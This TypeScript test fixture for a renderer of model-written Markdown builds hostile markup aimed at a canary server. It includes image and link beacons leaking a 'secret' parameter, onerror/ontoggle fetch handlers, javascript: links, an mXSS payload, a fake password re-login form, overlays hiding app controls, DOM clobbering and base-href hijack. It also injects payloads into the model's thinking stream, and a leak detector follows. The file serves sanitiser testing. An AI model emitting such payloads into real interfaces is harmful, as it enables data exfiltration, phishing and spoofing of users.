// Model-written markup that tries to load resources, restyle or spoof the app, or clobber globals.
// Every vector points at its own path on the canary server, so a request names the vector that leaked.
import { deflateSync } from 'node:zlib';
import type { Page } from 'playwright-core';

/** A 1x1 PNG: a data: image may stay inline (no network). */
export const DATA_PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=';

/** The vectors, as Markdown with inline HTML (what a model can write in an answer or a draft). */
export function hostileMarkup(canary: string): string {
  const c = (path: string) => `${canary}/${path}`;
  return [
    '# Hostile answer',
    `Markdown image: ![secret=42](${c('md-image.png?secret=42')}) and a reference image ![ref][r].`,
    '',
    `[r]: ${c('md-ref-image.png')}`,
    '',
    `A [plain link](${c('plain-link')}) and an inline data image ![dot](${DATA_PNG}).`,
    '',
    `<img src="${c('img.png')}" alt="html image"> <img srcset="${c('srcset.png')} 1x" src="${c('srcset-src.png')}">`,
    `<picture><source srcset="${c('picture-source.png')}"><img src="${c('picture-img.png')}" alt="pic"></picture>`,
    `<video poster="${c('video-poster.png')}" src="${c('video.mp4')}" autoplay></video><audio src="${c('audio.mp3')}" autoplay></audio>`,
    `<input type="image" src="${c('input-image.png')}" alt="input image">`,
    `<div style="background:url(${c('style-attr.png')});position:fixed;inset:0;z-index:2147483647;background-color:#c00">full-screen overlay</div>`,
    `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#c00">fixed paragraph</p>`,
    `<style>@import url("${c('style-import.css')}"); @font-face { font-family: pwn; src: url(${c('font.woff')}) } body, .l0-embed { background: url(${c('style-bg.png')}) !important } ` +
      `.run-button, .task-form, button.run, textarea.task, form.ask { display: none !important } ` +
      `:host { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; background: #c00 !important } * { font-family: pwn !important }</style>`,
    `<link rel="stylesheet" href="${c('link-stylesheet.css')}"><link rel="preload" as="image" href="${c('link-preload.png')}"><link rel="prefetch" href="${c('link-prefetch')}"><link rel="icon" href="${c('link-icon.png')}">`,
    `<svg width="10" height="10"><image href="${c('svg-image.png')}" width="10" height="10"/><use href="${c('svg-use.svg')}#x"/>` +
      `<filter id="f"><feImage href="${c('svg-feimage.png')}"/></filter><foreignObject><img src="${c('svg-foreign.png')}"></foreignObject></svg>`,
    `<object data="${c('object')}"></object><embed src="${c('embed')}"><iframe src="${c('iframe')}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${c('meta-refresh')}"><base href="${c('base/')}">`,
    `<a href="relative-after-base">relative link</a>`,
    `<form action="${c('form')}" method="post">Your session expired. Password: <input name="password" type="password"><button type="submit">Sign in again</button></form>`,
    `<table background="${c('table-bg.png')}"><tr><td background="${c('td-bg.png')}">cell</td></tr></table>`,
    `<div id="l0-task">clobbers the task box id</div><img name="getElementById" src="${c('clobber-img.png')}"><form name="cookie"></form>`,
    `<div class="visually-hidden sidebar panel-dialog banner">borrows app classes</div>`,
    `<details open ontoggle="fetch('${c('ontoggle')}')"><summary>details</summary>ontoggle</details>`,
    `<img src="x" onerror="fetch('${c('onerror')}')"><a href="javascript:fetch('${c('js-href')}')">js link</a>`,
    `<math><mtext><table><mglyph><style><img src="${c('mxss.png')}"></style></mglyph></table></mtext></math>`,
    `<marquee>marquee</marquee> - [ ] open task - [x] done task`,
    '',
    '- [ ] task list item',
    '- [x] done item',
    '',
    '| a | b |',
    '|:-|-:|',
    '| 1 | 2 |',
  ].join('\n');
}

/** Python source that binds `H` to `text`: deflated and base64, so no quoting or `</code>` can
 * break the cell, and short enough for a scripted model's output cap. */
export function pythonString(text: string, name = 'H'): string {
  return `import base64, zlib\n${name} = zlib.decompress(base64.b64decode('${deflateSync(Buffer.from(text, 'utf8'), { level: 9 }).toString('base64')}')).decode('utf8')`;
}

/** A few vectors for the model's thinking (shown as text while it streams). */
export function hostileThought(canary: string): string {
  return `<img src="${canary}/think-img.png"><style>*{display:none!important}</style><iframe src="${canary}/think-iframe"></iframe> ![x](${canary}/think-md.png)`;
}

/** Elements allowed in rendered model Markdown (the sanitiser's list, restated independently). */
const ALLOWED = new Set('a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr button'.split(' '));
/** Classes our own renderers put inside model content. */
const OWN_CLASSES = new Set(['remote-image', 'render-note', 'long-text', 'long-text-wrap', 'plain-text', 'markdown-rest', 'item-text', 'text-chunk', 'link-button', 'show-all', 'check', 'visually-hidden', 'done', 'muted', 'empty-item', 'hljs', 'language-python', 'batch', 'todos', 'facts']);

/**
 * Everything inside the model-content containers under `root` that should not be there: elements
 * off the allowlist, attributes that style, load, submit, clobber or run code, images that are not
 * data: URLs, links that would keep the opener. Empty when the rendering is inert.
 */
export function findLeaks(page: Page, rootSelector: string, shadowHost?: string): Promise<string[]> {
  return page.evaluate(
    ({ rootSelector, shadowHost, allowed, own }) => {
      const scope: ParentNode = shadowHost ? document.querySelector(shadowHost)!.shadowRoot! : document;
      const root = scope.querySelector(rootSelector);
      if (!root) return [`no ${rootSelector}`];
      const containers = [...root.querySelectorAll('.markdown, .notepad ul, .think-text, .cell-output, .cell-code, .traceback')];
      const leaks: string[] = [];
      const ownAttrs = new Set(['href', 'title', 'alt', 'src', 'start', 'open', 'align', 'lang', 'target', 'rel', 'class', 'type', 'aria-expanded', 'aria-hidden', 'hidden']);
      for (const c of containers) {
        for (const el of c.querySelectorAll('*')) {
          const tag = el.tagName.toLowerCase();
          if (!allowed.includes(tag)) leaks.push(`<${tag}> in ${c.className}`);
          for (const a of el.attributes) {
            if (!ownAttrs.has(a.name)) leaks.push(`${tag}[${a.name}] in ${c.className}`);
          }
          for (const cls of el.classList) if (!own.includes(cls) && !cls.startsWith('hljs')) leaks.push(`${tag}.${cls} in ${c.className}`);
          if (tag === 'img' && !(el.getAttribute('src') ?? '').startsWith('data:image/')) leaks.push(`img src=${el.getAttribute('src')}`);
          if (tag === 'a' && el.hasAttribute('href') && (el.getAttribute('target') !== '_blank' || !/noopener/.test(el.getAttribute('rel') ?? '') || !/noreferrer/.test(el.getAttribute('rel') ?? ''))) leaks.push(`a without target/rel: ${el.getAttribute('href')}`);
          if (tag === 'a' && /^javascript:/i.test(el.getAttribute('href') ?? '')) leaks.push('javascript: link');
          if (tag === 'button' && !el.classList.contains('show-all')) leaks.push('a button that is not ours');
          const pos = getComputedStyle(el).position;
          if (pos === 'fixed' || pos === 'absolute' && !el.classList.contains('visually-hidden')) leaks.push(`${tag} is position:${pos}`);
        }
      }
      return leaks;
    },
    { rootSelector, shadowHost, allowed: [...ALLOWED], own: [...OWN_CLASSES] },
  );
}
